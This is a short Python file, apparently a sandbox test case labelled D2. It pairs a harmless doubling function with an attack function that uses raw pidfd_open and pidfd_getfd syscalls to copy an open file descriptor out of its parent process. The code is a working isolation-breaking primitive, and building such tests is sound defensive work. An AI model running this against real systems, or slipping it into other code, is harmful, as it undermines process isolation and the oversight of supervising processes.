"""Takes an open file out of its parent process (D2)."""

import ctypes
import os


def honest(x):
    return 2 * x


def attack(x):
    libc = ctypes.CDLL(None, use_errno=True)
    parent = libc.syscall(434, os.getppid(), 0)  # pidfd_open
    if parent < 0:
        raise OSError(ctypes.get_errno(), "pidfd_open")
    taken = libc.syscall(438, parent, 1, 0)  # pidfd_getfd
    error = ctypes.get_errno()
    os.close(parent)
    if taken < 0:
        raise OSError(error, "pidfd_getfd")
    return "a file of the parent was taken"
